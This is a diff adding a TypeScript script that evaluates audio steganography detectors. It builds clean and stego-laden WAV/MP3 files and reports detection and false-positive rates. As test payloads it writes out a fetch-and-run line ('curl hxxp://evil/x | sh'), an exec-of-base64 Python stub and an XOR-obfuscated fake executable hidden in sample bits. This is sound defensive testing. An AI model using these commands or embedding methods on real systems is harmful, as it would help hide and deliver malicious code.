@@ -1,0 +1,394 @@
+/**
+ * Evaluation of the audio signal analyzers on a labelled set this script makes itself:
+ *   clean: synthesis (speech-like formants, chords with vibrato, dithered noise floors, quantised tones, beeps with
+ *          digital silence, silence) and, when the tools are there, real audio (Debian sound themes via apt-get
+ *          download + dpkg-deb, espeak-ng speech) and their sox/lame/flac/oggenc/opusenc encodings;
+ *   stego: LSB replacement at 100/25/5 % (sequential and spread), ±1 matching, steghide (when installed), base64 and
+ *          encrypted frames, text drawn into the spectrogram (alone and under music, WAV and MP3), FSK modem tones
+ *          (minimodem when installed, else our generator).
+ * Prints TPR/FPR per technique (a file counts as detected when a signal rule scores >= 2 on it, or the riff
+ * text-samples check fires), the real files' highest signal score, and the time to analyse a 3-minute 44.1 kHz
+ * stereo file.
+ *   node scripts/run-ts.mjs scripts/audio-eval.ts [--real DIR] [--quick] [--verbose]
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import { execFileSync, spawnSync } from 'node:child_process';
+import { analyzeFile, toScanFile } from '../src/analyzers/run.js';
+import { ANALYZERS } from '../src/analyzers/index.js';
+import { defaultOptions } from '../src/options.js';
+import type { Finding } from '../src/types.js';
+import {
+  beeps, embedBits, fskSignal, interleave, lsbMatch, lsbReplace, mix, music, noiseFloor, pureTone, rng, speech, spectrogramText, toInt16, wavBytes, wavFile,
+} from '../__tests__/helpers/signal.js';
+
+const args = process.argv.slice(2);
+const flag = (n: string): boolean => args.includes(`--${n}`);
+const opt = (n: string, d: string): string => {
+  const i = args.indexOf(`--${n}`);
+  return i >= 0 ? args[i + 1] : d;
+};
+const QUICK = flag('quick');
+const VERBOSE = flag('verbose');
+const WORK = path.resolve('.tmp/audio-eval');
+fs.mkdirSync(WORK, { recursive: true });
+
+const SIGNAL_RULES = /^audio\.(signal|lsb|spectrogram|modem)\./;
+const analyzers = ANALYZERS;
+const options = defaultOptions();
+
+interface Result {
+  findings: Finding[];
+  score: number;
+  ms: number;
+}
+
+async function analyse(name: string, data: Uint8Array): Promise<Result> {
+  const t0 = performance.now();
+  const file = await toScanFile(name, data);
+  const r = await analyzeFile(file, analyzers, options);
+  const ms = performance.now() - t0;
+  const sig = r.findings.filter((f) => SIGNAL_RULES.test(f.rule) || f.rule === 'audio.riff.text-samples');
+  return { findings: sig, score: Math.max(0, ...sig.map((f) => f.score)), ms };
+}
+
+const has = (cmd: string): boolean => spawnSync('sh', ['-c', `command -v ${cmd}`]).status === 0;
+
+// ---- clean material ------------------------------------------------------------------------------------------------
+
+interface Item {
+  name: string;
+  data: Uint8Array;
+}
+
+function synthClean(): Item[] {
+  const out: Item[] = [];
+  const N = QUICK ? 3 : 10;
+  for (let i = 0; i < N; i++) {
+    const rate = [44100, 22050, 48000, 16000][i % 4];
+    out.push({ name: `speech-${i}.wav`, data: wavFile(toInt16(speech(3, rate, 100 + i), i % 2 === 0), { rate }) });
+    const m = music(3, 44100, 200 + i);
+    const m2 = music(3, 44100, 300 + i);
+    out.push({ name: `music-${i}.wav`, data: wavFile(toInt16(interleave(m, m2), i % 2 === 0), { rate: 44100, channels: 2 }) });
+    out.push({ name: `noisefloor-${i}.wav`, data: wavFile(toInt16(noiseFloor(3, 44100, 400 + i, 0.0003 * (i + 1)), true), { rate: 44100 }) });
+    out.push({ name: `tone-${i}.wav`, data: wavFile(toInt16(pureTone(2, 44100, [441, 440, 1000, 220.5, 3000][i % 5], 0.1 + 0.08 * i)), { rate: 44100 }) });
+    out.push({ name: `beeps-${i}.wav`, data: wavFile(toInt16(beeps(3, 44100, 500 + i)), { rate: 44100 }) });
+    out.push({ name: `tone8-${i}.wav`, data: wavFile(Array.from(pureTone(1, 11025, 440 + 50 * i, 0.5), (v) => Math.round(v * 127)), { rate: 11025, bits: 8 }) });
+    out.push({ name: `music24-${i}.wav`, data: wavFile(Array.from(music(2, 48000, 600 + i), (v) => Math.round(v * 8388607)), { rate: 48000, bits: 24 }) });
+    out.push({ name: `quiet-music-${i}.wav`, data: wavFile(toInt16(music(3, 44100, 700 + i, 0.003)), { rate: 44100 }) });
+  }
+  out.push({ name: 'silence.wav', data: wavFile(new Int16Array(44100 * 2), { rate: 44100 }) });
+  out.push({ name: 'silence-dither.wav', data: wavFile(toInt16(new Float32Array(44100 * 2), true), { rate: 44100 }) });
+  return out;
+}
+
+/** Real audio: Debian sound themes (downloaded with apt-get download, unpacked with dpkg-deb) and espeak-ng speech. */
+function realClean(): { items: Item[]; note: string } {
+  const dir = path.resolve(opt('real', path.join(WORK, 'real')));
+  if (!fs.existsSync(dir) && has('apt-get') && has('dpkg-deb')) {
+    const debs = path.join(WORK, 'debs');
+    fs.mkdirSync(debs, { recursive: true });
+    for (const p of ['sound-theme-freedesktop', 'oxygen-sounds', 'sound-icons', 'gnome-audio', 'yaru-theme-sound', 'deepin-sound-theme']) {
+      spawnSync('apt-get', ['download', p], { cwd: debs, stdio: 'ignore' });
+    }
+    fs.mkdirSync(dir, { recursive: true });
+    for (const f of fs.readdirSync(debs).filter((x) => x.endsWith('.deb'))) spawnSync('dpkg-deb', ['-x', path.join(debs, f), dir], { stdio: 'ignore' });
+  }
+  const items: Item[] = [];
+  const walk = (d: string): void => {
+    if (!fs.existsSync(d)) return;
+    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
+      const p = path.join(d, e.name);
+      if (e.isDirectory()) walk(p);
+      else if (/\.(wav|ogg|oga|mp3|flac|au|aiff?)$/i.test(e.name)) items.push({ name: path.relative(dir, p), data: new Uint8Array(fs.readFileSync(p)) });
+    }
+  };
+  walk(dir);
+  if (has('espeak-ng')) {
+    const sp = path.join(WORK, 'espeak');
+    fs.mkdirSync(sp, { recursive: true });
+    const lines = ['The quick brown fox jumps over the lazy dog.', 'Package installation completed successfully.', 'Warning: the audio device is not available.', 'One two three four five six seven eight nine ten.'];
+    lines.forEach((l, i) => {
+      const f = path.join(sp, `say-${i}.wav`);
+      if (!fs.existsSync(f)) spawnSync('espeak-ng', ['-w', f, l], { stdio: 'ignore' });
+      if (fs.existsSync(f)) items.push({ name: `espeak/say-${i}.wav`, data: new Uint8Array(fs.readFileSync(f)) });
+    });
+  }
+  // encodings of a few real WAVs
+  const wavs = items.filter((i) => i.name.endsWith('.wav')).slice(0, QUICK ? 4 : 16);
+  const enc = path.join(WORK, 'enc');
+  fs.mkdirSync(enc, { recursive: true });
+  for (const [k, w] of wavs.entries()) {
+    const src = path.join(enc, `src-${k}.wav`);
+    fs.writeFileSync(src, w.data);
+    const tools: Array<[string, string, string[]]> = [
+      ['lame', `e-${k}.mp3`, ['--quiet', src, path.join(enc, `e-${k}.mp3`)]],
+      ['flac', `e-${k}.flac`, ['-s', '-f', src, '-o', path.join(enc, `e-${k}.flac`)]],
+      ['oggenc', `e-${k}.ogg`, ['-Q', src, '-o', path.join(enc, `e-${k}.ogg`)]],
+      ['opusenc', `e-${k}.opus`, ['--quiet', src, path.join(enc, `e-${k}.opus`)]],
+    ];
+    for (const [tool, out, a] of tools) {
+      const f = path.join(enc, out);
+      if (!fs.existsSync(f) && has(tool)) spawnSync(tool, a, { stdio: 'ignore' });
+      if (fs.existsSync(f)) items.push({ name: `enc/${out}`, data: new Uint8Array(fs.readFileSync(f)) });
+    }
+  }
+  const note = items.length ? `${items.length} real files (${dir}, espeak-ng and encodings)` : 'no real audio found (apt-get/dpkg-deb/espeak-ng absent): synthesis only';
+  return { items, note };
+}
+
+// ---- stego -------------------------------------------------------------------------------------------------------------
+
+/** 16-bit covers for LSB work: synthetic ones and the real WAVs that are 16-bit PCM. */
+function covers(real: Item[]): Array<{ name: string; ints: Int16Array; rate: number; channels: number }> {
+  const out: Array<{ name: string; ints: Int16Array; rate: number; channels: number }> = [];
+  const N = QUICK ? 2 : 6;
+  for (let i = 0; i < N; i++) {
+    out.push({ name: `music-${i}`, ints: toInt16(interleave(music(3, 44100, 900 + i), music(3, 44100, 950 + i)), i % 2 === 0), rate: 44100, channels: 2 });
+    out.push({ name: `speech-${i}`, ints: toInt16(speech(3, 22050, 1000 + i), i % 2 === 1), rate: 22050, channels: 1 });
+    out.push({ name: `beeps-${i}`, ints: toInt16(beeps(3, 44100, 1100 + i)), rate: 44100, channels: 1 });
+  }
+  for (const r of real) {
+    if (out.length >= (QUICK ? 12 : 60)) break;
+    if (!r.name.endsWith('.wav')) continue;
+    const d = r.data;
+    const dv = new DataView(d.buffer, d.byteOffset, d.byteLength);
+    if (d.length < 4096 || String.fromCharCode(...d.subarray(0, 4)) !== 'RIFF') continue;
+    // find fmt and data
+    let p = 12;
+    let rate = 0;
+    let ch = 0;
+    let bits = 0;
+    let tag = 0;
+    let dataAt = -1;
+    let dataLen = 0;
+    while (p + 8 <= d.length) {
+      const id = String.fromCharCode(...d.subarray(p, p + 4));
+      const len = dv.getUint32(p + 4, true);
+      if (id === 'fmt ') {
+        tag = dv.getUint16(p + 8, true);
+        ch = dv.getUint16(p + 10, true);
+        rate = dv.getUint32(p + 12, true);
+        bits = dv.getUint16(p + 22, true);
+      }
+      if (id === 'data') {
+        dataAt = p + 8;
+        dataLen = Math.min(len, d.length - dataAt);
+        break;
+      }
+      p += 8 + len + (len & 1);
+    }
+    if (tag !== 1 || bits !== 16 || dataAt < 0) continue;
+    const n = Math.floor(dataLen / 2);
+    const ints = new Int16Array(n);
+    for (let i = 0; i < n; i++) ints[i] = dv.getInt16(dataAt + i * 2, true);
+    out.push({ name: r.name, ints, rate, channels: ch });
+  }
+  return out;
+}
+
+function fakeExe(): Uint8Array {
+  const d = new Uint8Array(3000);
+  d.set([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0]);
+  d[0x3c] = 0x80;
+  d.set([0x50, 0x45, 0, 0, 0x64, 0x86, 2, 0], 0x80);
+  const r = rng(77);
+  for (let i = 0x200; i < d.length; i++) d[i] = r() < 0.4 ? Math.floor(r() * 256) : 0;
+  return d;
+}
+
+async function main(): Promise<void> {
+  const t0 = performance.now();
+  const synth = synthClean();
+  const real = realClean();
+  console.log(`clean: ${synth.length} synthetic files; ${real.note}`);
+
+  const rows: Array<{ technique: string; n: number; hit: number; meanScore: number; note?: string }> = [];
+  const record = async (technique: string, items: Item[], note?: string): Promise<Result[]> => {
+    const res: Result[] = [];
+    for (const it of items) {
+      const r = await analyse(it.name, it.data);
+      res.push(r);
+      if (VERBOSE && (technique.startsWith('clean') ? r.score >= 2 : r.score < 2)) {
+        console.log(`  [${technique}] ${it.name}: score ${r.score} ${r.findings.map((f) => `${f.rule}=${f.score}`).join(' ')}`);
+        for (const f of r.findings.slice(0, 3)) console.log(`      ${f.message.slice(0, 200)}`);
+      }
+    }
+    const hit = res.filter((r) => r.score >= 2).length;
+    rows.push({ technique, n: items.length, hit, meanScore: res.reduce((a, r) => a + r.score, 0) / Math.max(1, res.length), note });
+    return res;
+  };
+
+  const synthRes = await record('clean: synthesis', synth);
+  const realRes = await record('clean: real audio', real.items);
+  const anyReal = realRes.filter((r) => r.findings.length > 0).length;
+
+  // ---- LSB
+  const cv = covers(real.items);
+  for (const rate of [1, 0.25, 0.05]) {
+    for (const mode of ['sequential', 'random'] as const) {
+      const items = cv.map((c, k) => ({ name: `${c.name}-lsb-${mode}-${rate}.wav`, data: wavFile(lsbReplace(c.ints, rate, mode, 40 + k), { rate: c.rate, channels: c.channels }) }));
+      await record(`LSB replacement ${mode} ${rate * 100}%`, items);
+    }
+  }
+  for (const rate of [1, 0.25, 0.05]) {
+    const items = cv.map((c, k) => ({ name: `${c.name}-pm1-${rate}.wav`, data: wavFile(lsbMatch(c.ints, rate, 60 + k), { rate: c.rate, channels: c.channels }) }));
+    await record(`±1 matching ${rate * 100}%`, items);
+  }
+  // a text payload in the LSBs (extraction)
+  {
+    const msg = new Uint8Array(Buffer.from('import os, base64\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))\n'.repeat(20)));
+    const items = cv.map((c, k) => ({ name: `${c.name}-lsb-code.wav`, data: wavFile(lsbReplace(c.ints, Math.min(1, (msg.length * 8 + 64) / c.ints.length), 'sequential', 80 + k, msg), { rate: c.rate, channels: c.channels }) }));
+    await record('LSB payload (Python, sequential)', items);
+  }
+  // file payloads as tools lay them out: a zip behind a 32-bit length in 2 LSBs, an executable in 1 LSB, base64 text
+  {
+    const zipLike = new Uint8Array(Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(16), Buffer.from([8, 0, 0, 0]), Buffer.from('data.bin', 'latin1'), Buffer.from(Array.from({ length: 2000 }, (_, i) => (i * 37) & 0xff))]));
+    const withLen = new Uint8Array(4 + zipLike.length);
+    new DataView(withLen.buffer).setUint32(0, zipLike.length);
+    withLen.set(zipLike, 4);
+    const exe = fakeExe();
+    const b64 = new Uint8Array(Buffer.from(Buffer.from(Array.from({ length: 1500 }, (_, i) => (i * 91 + 7) & 0xff)).toString('base64')));
+    for (const [label, payload, bits] of [['zip, 32-bit length, 2 LSBs', withLen, 2], ['PE executable, 1 LSB', exe, 1], ['base64 of encrypted bytes, 1 LSB', b64, 1]] as const) {
+      const items = cv.filter((c) => c.ints.length * bits >= payload.length * 8 + 64).map((c) => ({ name: `${c.name}-${bits}.wav`, data: wavFile(embedBits(c.ints, payload, bits), { rate: c.rate, channels: c.channels }) }));
+      await record(`LSB payload (${label})`, items);
+    }
+  }
+  // steghide
+  if (has('steghide')) {
+    const dir = path.join(WORK, 'steghide');
+    fs.mkdirSync(dir, { recursive: true });
+    const items: Item[] = [];
+    for (const [k, c] of cv.entries()) {
+      const cover = path.join(dir, `c-${k}.wav`);
+      const out = path.join(dir, `s-${k}.wav`);
+      fs.writeFileSync(cover, wavFile(c.ints, { rate: c.rate, channels: c.channels }));
+      const secret = path.join(dir, `m-${k}.bin`);
+      const cap = Math.floor(c.ints.length / 8 / 12);
+      const r = rng(k + 3);
+      fs.writeFileSync(secret, Buffer.from(Array.from({ length: Math.max(64, Math.min(cap, 20000)) }, () => Math.floor(r() * 256))));
+      const res = spawnSync('steghide', ['embed', '-cf', cover, '-ef', secret, '-sf', out, '-p', 'secret', '-f', '-q'], { stdio: 'ignore' });
+      if (res.status === 0 && fs.existsSync(out)) items.push({ name: `steghide-${c.name}.wav`, data: new Uint8Array(fs.readFileSync(out)) });
+    }
+    await record('steghide (max ~1/12 capacity)', items);
+  } else rows.push({ technique: 'steghide', n: 0, hit: 0, meanScore: 0, note: 'not installed' });
+
+  // ---- not audio
+  {
+    const items: Item[] = [];
+    for (let k = 0; k < (QUICK ? 5 : 30); k++) {
+      const key = new Uint8Array(8).map((_, i) => (k * 31 + i * 17 + 5) & 0xff);
+      const exe = fakeExe();
+      const body = new Uint8Array(8 + exe.length);
+      body.set(key);
+      for (let i = 0; i < exe.length; i++) body[8 + i] = exe[i] ^ key[i % 8];
+      const b64 = new Uint8Array(Buffer.from(Buffer.from(body).toString('base64')));
+      items.push({ name: `telnyx-${k}.wav`, data: wavBytes(b64, { rate: 8000 + k * 1000 }) });
+      // text after real sound
+      const m = toInt16(music(1, 22050, 1200 + k));
+      const tail = new Uint8Array(m.length * 2 + b64.length);
+      tail.set(new Uint8Array(m.buffer));
+      tail.set(b64, m.length * 2);
+      items.push({ name: `text-after-audio-${k}.wav`, data: wavBytes(tail, { rate: 22050 }) });
+    }
+    await record('base64 frames', items);
+    const enc: Item[] = [];
+    for (let k = 0; k < (QUICK ? 5 : 30); k++) {
+      const r = rng(2000 + k);
+      const b = new Uint8Array(44100 * 2 * (1 + (k % 3))).map(() => Math.floor(r() * 256));
+      enc.push({ name: `encrypted-${k}.wav`, data: wavBytes(b, { rate: 44100, channels: 1 + (k % 2) }) });
+    }
+    await record('encrypted frames', enc);
+  }
+
+  // ---- spectrogram text
+  {
+    const words = ['HELLO WORLD', 'PAYLOAD 42', 'HTTP EVIL', 'CALL HOME', 'SECRET KEY', 'RUN ME NOW', 'TELNYX', 'ABC 123'];
+    const alone: Item[] = [];
+    const under: Item[] = [];
+    const mp3: Item[] = [];
+    for (let k = 0; k < (QUICK ? 4 : 20); k++) {
+      const w = words[k % words.length];
+      const t = spectrogramText(w, 4, { fLow: 15000 + (k % 3) * 500, fHigh: 19000 + (k % 2) * 500, column: 0.035 + (k % 3) * 0.01 });
+      alone.push({ name: `spec-alone-${k}.wav`, data: wavFile(toInt16(t), { rate: 44100 }) });
+      const low = spectrogramText(w, 4, { fLow: 4000 + (k % 4) * 1000, fHigh: 9000 + (k % 4) * 1000, column: 0.04, level: 0.01 });
+      const m = music(4, 44100, 1300 + k, 0.3);
+      under.push({ name: `spec-music-${k}.wav`, data: wavFile(toInt16(mix(m, low), true), { rate: 44100 }) });
+      if (has('lame')) {
+        const src = path.join(WORK, `spec-${k}.wav`);
+        const dst = path.join(WORK, `spec-${k}.mp3`);
+        fs.writeFileSync(src, wavFile(toInt16(mix(music(4, 44100, 1400 + k, 0.2), spectrogramText(w, 4, { fLow: 9000, fHigh: 14000, column: 0.04, level: 0.02 }))), { rate: 44100 }));
+        spawnSync('lame', ['--quiet', '-b', '192', src, dst], { stdio: 'ignore' });
+        if (fs.existsSync(dst)) mp3.push({ name: `spec-${k}.mp3`, data: new Uint8Array(fs.readFileSync(dst)) });
+      }
+    }
+    await record('spectrogram text alone (15-19.5 kHz)', alone);
+    await record('spectrogram text under music (4-10 kHz)', under);
+    if (mp3.length) await record('spectrogram text under music, MP3 192k', mp3);
+  }
+
+  // ---- FSK
+  {
+    const items: Item[] = [];
+    const mm = has('minimodem');
+    const dir = path.join(WORK, 'fsk');
+    fs.mkdirSync(dir, { recursive: true });
+    const msgs = ['curl hxxp://evil/x | sh', 'import os; os.system("id")', 'hello from the modem', 'PAYLOAD:' + 'A1B2C3'.repeat(5)];
+    for (let k = 0; k < (QUICK ? 4 : 20); k++) {
+      const msg = msgs[k % msgs.length] + ` #${k}`;
+      const baud = [1200, 300, 1200, 300, 600][k % 5];
+      if (mm) {
+        const f = path.join(dir, `m-${k}.wav`);
+        execFileSync('minimodem', ['--tx', String(baud), '-f', f], { input: msg });
+        items.push({ name: `minimodem-${baud}-${k}.wav`, data: new Uint8Array(fs.readFileSync(f)) });
+      } else {
+        const mark = baud >= 400 ? baud / 2 + 600 : 1270;
+        const space = baud >= 400 ? mark + (baud * 5) / 6 : 1070;
+        items.push({ name: `fsk-${baud}-${k}.wav`, data: wavFile(toInt16(fskSignal(new Uint8Array(Buffer.from(msg)), { baud, mark, space })), { rate: 48000 }) });
+      }
+    }
+    await record(`FSK modem tones (${mm ? 'minimodem' : 'own generator'})`, items);
+  }
+
+  // ---- report
+  console.log('');
+  console.log('technique                                        files  detected  rate     mean score');
+  for (const r of rows) {
+    const rate = r.n ? `${((100 * r.hit) / r.n).toFixed(1)} %` : '-';
+    const lbl = r.technique.startsWith('clean') ? `${r.technique} (FPR)` : r.technique;
+    console.log(`${lbl.padEnd(48)} ${String(r.n).padStart(5)}  ${String(r.hit).padStart(8)}  ${rate.padStart(7)}  ${r.meanScore.toFixed(2).padStart(6)}${r.note ? `  (${r.note})` : ''}`);
+  }
+  const maxReal = Math.max(0, ...realRes.map((r) => r.score));
+  const maxSynth = Math.max(0, ...synthRes.map((r) => r.score));
+  console.log(`\nreal files with any signal finding: ${anyReal} of ${realRes.length}; highest signal score on real files ${maxReal}, on synthetic clean ${maxSynth}`);
+
+  // ---- timing: 3 minutes of 44.1 kHz stereo
+  const long = wavFile(toInt16(interleave(music(180, 44100, 5000), music(180, 44100, 5001)), true), { rate: 44100, channels: 2 });
+  const file = await toScanFile('long.wav', long);
+  const signalOnly = ANALYZERS.filter((a) => a.name.startsWith('audio-'));
+  const times: number[] = [];
+  for (let k = 0; k < 3; k++) {
+    const t = performance.now();
+    await analyzeFile({ ...file, data: long.slice() }, signalOnly, options);
+    times.push(performance.now() - t);
+  }
+  const tAll = performance.now();
+  await analyzeFile({ ...file, data: long.slice() }, ANALYZERS, options);
+  const all = performance.now() - tAll;
+  console.log(`3-minute 44.1 kHz stereo WAV (${(long.length / 1e6).toFixed(1)} MB): signal analyzers ${times.map((t) => t.toFixed(0)).join(' / ')} ms (first run includes warm-up), every analyzer ${all.toFixed(0)} ms`);
+  if (has('lame')) {
+    const src = path.join(WORK, 'long.wav');
+    const dst = path.join(WORK, 'long.mp3');
+    if (!fs.existsSync(dst)) {
+      fs.writeFileSync(src, long);
+      spawnSync('lame', ['--quiet', src, dst], { stdio: 'ignore' });
+    }
+    const mp3 = await toScanFile('long.mp3', new Uint8Array(fs.readFileSync(dst)));
+    const t = performance.now();
+    await analyzeFile(mp3, signalOnly, options);
+    console.log(`the same as a 128 kbit/s MP3: signal analyzers ${(performance.now() - t).toFixed(0)} ms (decoding included)`);
+  }
+  console.log(`total ${((performance.now() - t0) / 1000).toFixed(1)} s`);
+}
+
+await main();
